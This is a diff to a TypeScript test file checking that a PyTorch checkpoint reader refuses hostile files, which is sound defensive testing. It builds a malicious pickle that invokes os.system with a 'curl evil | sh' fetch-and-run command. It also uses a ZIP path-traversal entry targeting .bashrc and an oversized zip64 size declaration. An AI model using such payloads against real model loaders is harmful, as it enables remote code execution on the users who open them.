@@ -151,7 +151,8 @@ test('tensors that cannot be read as plain contiguous data are refused with the 
 
 test('hostile checkpoints are refused before anything is built', () => {
   const payload = new PickleWriter().proto(2).global('os', 'system').str('curl evil | sh').tuple(1).reduce().stop().toBytes();
-  for (const bytes of [torchZip(null, {}, { pickle: payload }), new Uint8Array([...legacyCheckpoint(null, []).subarray(0, 0), ...payload])]) {
+  // In a ZIP archive's data.pkl, and as the first pickle of a legacy-format file.
+  for (const bytes of [torchZip(null, {}, { pickle: payload }), payload]) {
     assert.throws(
       () => readTorchCheckpoint(bytes),
       (error: unknown) => error instanceof UnsafePickleError && error.offender === 'os.system' && error.offset === 2,
@@ -167,7 +168,7 @@ test('hostile checkpoints are refused before anything is built', () => {
     (error: unknown) => error instanceof ZipError && error.entry === 'archive/../../../home/user/.bashrc' && /escapes the archive/.test(error.message),
   );
   assert.throws(
-    () => readTorchCheckpoint(writeZip([{ name: 'archive/data.pkl', data: pickle, deflate: true, declare: { size: 2 ** 36 } }], { zip64: true })),
-    (error: unknown) => error instanceof ZipError && error.entry === 'archive/data.pkl' && /declares 68719476736 bytes/.test(error.message),
+    () => readTorchCheckpoint(writeZip([{ name: 'archive/data.pkl', data: pickle, deflate: true, declare: { size: 2 ** 37 } }], { zip64: true })),
+    (error: unknown) => error instanceof ZipError && error.entry === 'archive/data.pkl' && /declares 137438953472 bytes, over the 68719476736-byte limit/.test(error.message),
   );
 });
